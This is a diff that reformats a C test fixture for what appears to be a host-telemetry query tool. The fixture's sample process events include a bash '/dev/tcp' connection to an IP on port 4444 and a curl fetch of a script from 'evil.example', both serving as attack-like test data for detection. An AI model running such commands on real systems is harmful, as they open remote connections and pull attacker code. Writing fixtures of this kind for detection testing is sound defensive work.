@@ -1,5 +1,6 @@
 /* SPDX-License-Identifier: Apache-2.0 */
-/* query_fixture - the thirteen events of docs/query.md ("The events of the examples") as a block. */
+/* query_fixture - the thirteen events of docs/query.md ("The events of the examples") as a block.
+ */
 #pragma once
 #include <setjmp.h>
 #include <stdarg.h>
@@ -68,9 +69,17 @@ static inline void fixture_processes(struct fixture *f)
 		{ 1, 0, "/usr/lib/systemd/systemd", "root", 0, { "/sbin/init" } },
 		{ 700, 1, "/usr/sbin/sshd", "root", 0, { "sshd:", "alice" } },
 		{ 1200, 2, "/usr/bin/bash", "alice", 1000, { "-bash" } },
-		{ 1300, 3, "/usr/bin/bash", "alice", 1000,
+		{ 1300,
+		  3,
+		  "/usr/bin/bash",
+		  "alice",
+		  1000,
 		  { "bash", "-c", "cat </dev/tcp/203.0.113.9/4444" } },
-		{ 1301, 3, "/usr/bin/curl", "alice", 1000,
+		{ 1301,
+		  3,
+		  "/usr/bin/curl",
+		  "alice",
+		  1000,
 		  { "curl", "-s", "http://evil.example/x.sh" } },
 	};
 
@@ -111,7 +120,8 @@ static inline void fixture_flow(struct fixture *f, enum kind kind, uint32_t proc
 
 static inline void fixture_events(struct fixture *f)
 {
-	static const char *const read[] = { "read", NULL }, *const write[] = { "write", "create", NULL };
+	static const char *const read[] = { "read", NULL }, *const write[] = { "write", "create",
+									       NULL };
 
 	fixture_event(f, KIND_FORK, 3);
 	batch_set(f->batch, KIND_FORK, FIELD_CHILD_PID, 1300);
@@ -138,8 +148,10 @@ static inline void fixture_events(struct fixture *f)
 
 static inline int fixture_setup(void **state)
 {
-	const struct batch_origin origin = { .node_id = "web-1-id", .node_name = "web-1",
-					     .architecture = "aarch64", .os_kernel = "6.1.0",
+	const struct batch_origin origin = { .node_id = "web-1-id",
+					     .node_name = "web-1",
+					     .architecture = "aarch64",
+					     .os_kernel = "6.1.0",
 					     .agent_version = "0.1.0" };
 	struct fixture *f = calloc(1, sizeof(*f));
 	AUTO(frame_codec) *codec = NULL;
